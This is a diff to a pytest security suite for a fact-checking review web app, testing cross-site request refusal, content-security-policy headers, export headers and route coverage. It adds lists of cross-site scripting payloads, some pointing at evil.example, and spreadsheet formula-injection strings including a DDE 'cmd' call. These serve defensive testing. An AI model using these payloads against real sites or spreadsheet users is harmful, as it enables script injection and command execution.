@@ -1,8 +1,13 @@
+import csv
+import io
+import json
 import re
 from html.parser import HTMLParser
 
 import pytest
 from review_browser import Browser, make_out
+
+from factcheck.web.app import ROUTES
 
 JUDGE = "/articles/a2/claims/c1/judgements"
 PAGE = "/articles/a2/claims/c1"
@@ -57,7 +62,7 @@ def test_other_names_are_refused(host, method, out):
         {"origin": "http://localhost:8000", "sec-fetch-site": "cross-site"},
     ],
 )
-@pytest.mark.parametrize("path", [JUDGE, f"{PAGE}/undo", "/check"])
+@pytest.mark.parametrize("path", [JUDGE, f"{PAGE}/undo", "/check", "/people", "/sign-out"])
 def test_writes_from_other_sites_are_refused(headers, path, browser):
     form = "/check" if path == "/check" else PAGE
     answer = browser.post(form, path, headers=headers, action="accept", text="Up 3 percent.")
@@ -132,7 +137,12 @@ def test_forms_of_other_kinds_are_refused(kind, browser):
 
 @pytest.mark.parametrize(
     "path",
-    ["/", "/check", "/articles/a2", PAGE, "/static/review.css", "/nothing", "/export/claims.csv"],
+    [
+        *("/", "/check", "/articles/a2", PAGE, "/series", "/audit", "/people", "/sign-in"),
+        *("/static/review.css", "/static/review.js", "/static/htmx.min.js", "/nothing"),
+        *("/export/claims.csv", "/export/claims.jsonl", "/export/claimreview.json"),
+        *("/export/readings.jsonl", f"{PAGE}/judgements", "/sign-out", "/?done=1", "/?page=x"),
+    ],
 )
 def test_every_answer_has_the_policy(path, browser):
     headers = browser.get(path).headers
@@ -140,6 +150,7 @@ def test_every_answer_has_the_policy(path, browser):
     for part in (
         "default-src 'none'",
         "style-src 'self'",
+        "script-src 'self'",
         "form-action 'self'",
         "img-src 'self' data:",
         "frame-ancestors 'none'",
@@ -153,7 +164,7 @@ def test_every_answer_has_the_policy(path, browser):
 
 
 def test_fault_of_ours_tells_nothing_and_has_the_policy(browser, monkeypatch):
-    monkeypatch.setattr(browser.app.state.desk, "report", None)
+    monkeypatch.setattr(browser.app.state.desk, "article", None)
     answer = browser.get("/articles/a2")
     assert answer.status_code == 500
     assert "Traceback" not in answer.text
@@ -179,6 +190,22 @@ PAYLOADS = [
     "<meta http-equiv=refresh content=0;url=//evil.example>",
     "\u202etxt.exe",
     "<math><mtext></mtext><style><img src=x onerror=alert(1)></style></math>",
+    "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<body onload=alert(1)>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<form action=//evil.example><button>x",
+    "</blockquote></article></section><script>alert(1)</script>",
+    "<svg><script>alert(1)</script></svg>",
+    "data:text/html,<script>alert(1)</script>",
+    "&#x6a;avascript:alert(1)",
+    "<a hx-get=//evil.example hx-trigger=load>",
+    "<div data-hx-on:load='alert(1)'>",
+    "\\u003cscript\\u003ealert(1)",
+    "${alert(1)}`",
+    '<img src=1 href=1 onerror="javascript:alert(1)">',
 ]
 
 
@@ -192,12 +219,14 @@ class Elements(HTMLParser):
         values = dict(attrs)
         if tag == "script" and values.get("src", "").startswith("/static/"):
             return
-        if tag in {"script", "img", "iframe", "base", "math", "style"}:
+        if tag in {"script", "img", "iframe", "base", "math", "style", "object", "embed"}:
             self.found.add(tag)
         if tag == "meta" and "http-equiv" in values:
             self.found.add("meta")
         for name, value in attrs:
-            if name.startswith("on") or name in ("autofocus", "srcdoc"):
+            if name.startswith("on") or name in ("autofocus", "srcdoc", "hx-trigger"):
+                self.found.add(name)
+            if name.startswith(("data-hx", "hx-on")) or "evil.example" in (value or "")[:9]:
                 self.found.add(name)
             if name in ("href", "action", "src") and "script:" in (value or ""):
                 self.found.add("address")
@@ -214,7 +243,8 @@ def test_hostile_text_stays_text(payload, tmp_path):
         "url": payload,
     }
     browser = Browser(make_out(tmp_path, [row]), reviewer=payload)
-    note = {"note": payload, "reading_period": payload}
+    readings = ("series", "indicator", "area", "period", "value", "unit")
+    note = {"note": payload, **{f"reading_{name}": payload for name in readings}}
     number = len(browser.rows("SELECT * FROM claims WHERE label = 'refuted'"))
     assert number
     claim = browser.rows("SELECT claim_id FROM claims WHERE label = 'refuted'")[0]["claim_id"]
@@ -229,9 +259,22 @@ def test_hostile_text_stays_text(payload, tmp_path):
         browser.get(f"/articles/h1/claims/{claim}", params={"q": payload, "done": "1"}),
         browser.post("/check", "/check", text="", title=payload, published=payload, outlet=payload),
         browser.get("/articles/" + payload.replace("/", "%2F")),
+        browser.get(f"/articles/h1/claims/{claim}", params={"find": payload, **note}),
+        browser.get(f"/articles/h1/claims/{payload.replace('/', '%2F')}"),
+        browser.get("/series", params={"q": payload}),
+        browser.get("/series", params={"key": payload, "area": payload, "vintage": payload}),
+        browser.get("/audit"),
+        browser.judge("h1", claim, action=payload, label=payload, **note),
+        browser.judge("h1", claim, action="correct", label=payload, queue=payload, **note),
+        browser.judge("h1", claim, action="accept", seen="999", note=payload),
+        browser.post("/people", "/people", action="add", name=payload, role=payload),
+        browser.post("/people", "/people", action="remove", name=payload),
+        browser.get("/sign-in", params={"next": payload}),
+        browser.post("/sign-in", "/sign-in", name=payload, password=payload, next=payload),
+        browser.get("/people"),
     ]
     for page in pages:
-        assert page.status_code in (200, 404, 422)
+        assert page.status_code in (200, 303, 400, 401, 404, 409, 422)
         assert Elements(page.text).found == set()
         # what a person typed comes back as it was typed, in the field that it was typed in
         shown = re.sub(r'value="[^"]*"', "", page.text)
@@ -246,3 +289,62 @@ def test_hostile_quote_stays_text(browser):
             ("<script>1</script>",) * 6,
         )
     assert Elements(browser.get("/").text).found == set()
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_hostile_text_does_nothing_in_what_is_exported(payload, tmp_path):
+    row = {"id": "h1", "text": f"Exports {payload} grew 2 percent.", "title": payload}
+    browser = Browser(make_out(tmp_path, [row | {"url": payload, "outlet": payload}]))
+    claims = browser.rows("SELECT claim_id FROM claims WHERE label = 'refuted'")
+    for claim in claims:
+        browser.judge("h1", claim["claim_id"], action="accept", note=payload)
+    for name, kind in (
+        ("claims.csv", "text/csv; charset=utf-8"),
+        ("claims.jsonl", "application/x-ndjson"),
+        ("claimreview.json", "application/ld+json"),
+        ("readings.jsonl", "application/x-ndjson"),
+    ):
+        answer = browser.get(f"/export/{name}")
+        assert answer.status_code == 200
+        assert answer.headers["content-type"] == kind
+        assert answer.headers["content-disposition"] == f'attachment; filename="{name}"'
+        assert answer.headers["x-content-type-options"] == "nosniff"
+    graph = json.loads(browser.get("/export/claimreview.json").text)["@graph"]
+    assert len(graph) == len(claims)
+    assert "javascript:" not in str([i["itemReviewed"]["appearance"].get("url") for i in graph])
+
+
+CELLS = ["=1+1", "+1+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0", " =1", "＝1+1"]
+
+
+@pytest.mark.parametrize("text", CELLS)
+def test_a_spreadsheet_runs_nothing_of_a_note(text, browser):
+    browser.judge("a2", "c1", action="accept", note=f"{text}")
+    sheet = browser.get("/export/claims.csv?state=accept").text
+    (row,) = csv.DictReader(io.StringIO(sheet))
+    assert row["note"].lstrip()[:1] not in ("=", "+", "@", "-")
+
+
+def test_every_route_is_looked_at():
+    """A new route is added to the tests of guards and roles, or this fails."""
+    assert sorted({(r.path, *sorted(r.methods - {"HEAD"})) for r in ROUTES}) == [
+        ("/", "GET"),
+        ("/articles/{slug}", "GET"),
+        ("/articles/{slug}/claims/{claim}", "GET"),
+        ("/articles/{slug}/claims/{claim}/judgements", "POST"),
+        ("/articles/{slug}/claims/{claim}/undo", "POST"),
+        ("/audit", "GET"),
+        ("/check", "GET"),
+        ("/check", "POST"),
+        ("/export/claimreview.json", "GET"),
+        ("/export/claims.csv", "GET"),
+        ("/export/claims.jsonl", "GET"),
+        ("/export/readings.jsonl", "GET"),
+        ("/people", "GET"),
+        ("/people", "POST"),
+        ("/series", "GET"),
+        ("/sign-in", "GET"),
+        ("/sign-in", "POST"),
+        ("/sign-out", "POST"),
+        ("/static/{name}", "GET"),
+    ]
